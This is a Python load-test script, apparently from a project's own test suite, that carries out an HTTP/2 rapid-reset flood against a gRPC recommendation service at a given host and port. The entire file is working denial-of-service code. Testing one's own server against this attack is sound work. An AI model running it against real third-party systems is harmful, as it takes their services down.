"""Begin calls without a token and reset them at once, as fast as possible (a rapid-reset attack).

Start it by `python -m tests.load.rapid_reset TARGET SECONDS CONNECTIONS`. TARGET is HOST:PORT without
TLS. It prints the numbers of streams and connections. When the server closes a connection, it opens
another one.
"""

import select
import sys
import time

from tests import http2

_RECOMMEND = http2.headers("/recsys.retriever.v1.RetrieverService/Recommend")
# Number of streams per write.
_TOGETHER = 50


class Attacker:
    """Attacks over one connection at a time, and counts its `streams` and `connections`."""

    def __init__(self, target: str) -> None:
        self.streams = self.connections = 0
        self._target = target
        self._connection: http2.Connection | None = None
        self._next = 1

    def strike(self) -> None:
        """Begin and reset some streams, and read the server's frames."""
        try:
            if self._connection is None:
                self._connection = http2.Connection(self._target, seconds=1)
                self.connections += 1
                self._next = 1
            connection = self._connection.socket
            numbers = range(self._next, self._next + 2 * _TOGETHER, 2)
            connection.sendall(b"".join(map(_reset, numbers)))
            self._next = numbers.stop
            self.streams += _TOGETHER
            # Answer pings, and read everything, so that the server never waits for this reader.
            while select.select([connection], [], [], 0)[0]:
                if not self._connection.take():
                    raise ConnectionError("the server closed the connection")
        except OSError:
            if self._connection is not None:
                self._connection.socket.close()
                self._connection = None


def _reset(stream: int) -> bytes:
    return http2.frame(http2.HEADERS, http2.END_HEADERS, stream, _RECOMMEND) + http2.frame(
        http2.RST_STREAM, 0, stream, http2.CANCEL
    )


def main(target: str, seconds: str, connections: str) -> None:
    attackers = [Attacker(target) for _ in range(int(connections))]
    print("begins", flush=True)
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        for attacker in attackers:
            attacker.strike()
    streams = sum(attacker.streams for attacker in attackers)
    print(f"{streams} streams on {sum(attacker.connections for attacker in attackers)} connections")


if __name__ == "__main__":
    main(*sys.argv[1:])
